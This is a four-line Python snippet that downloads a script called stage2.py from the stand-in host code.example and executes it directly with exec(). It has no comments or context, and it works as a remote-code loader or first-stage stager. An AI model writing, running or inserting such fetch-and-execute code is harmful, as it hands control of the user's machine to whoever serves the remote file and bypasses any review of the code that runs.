import urllib.request

source = urllib.request.urlopen("http://code.example/stage2.py").read().decode()
exec(source)
